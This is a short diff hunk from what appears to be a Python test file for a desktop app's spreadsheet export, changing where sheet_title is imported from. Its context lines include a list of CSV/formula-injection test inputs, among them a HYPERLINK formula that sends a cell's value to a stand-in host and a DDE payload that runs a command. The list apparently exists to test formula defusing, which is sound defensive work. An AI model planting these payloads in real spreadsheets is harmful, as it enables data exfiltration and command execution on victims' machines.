@@ -30,7 +30,8 @@ from persona_desktop.core.errors import DataError
 from persona_desktop.core.export.files import save_figure, write_csv
 from persona_desktop.core.progress import Cancelled, Progress
 from persona_desktop.core.io.safe_write import FORMULA_STARTS, defuse_formula
-from persona_desktop.core.export.xlsx import MAX_SHEET_ROWS, sheet_title, write_workbook
+from persona_desktop.core.export.sheet_text import sheet_title
+from persona_desktop.core.export.xlsx import MAX_SHEET_ROWS, write_workbook
 
 SAMPLE = ROOT / "resources" / "sample" / "online_retail_sample.csv"
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Click me")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
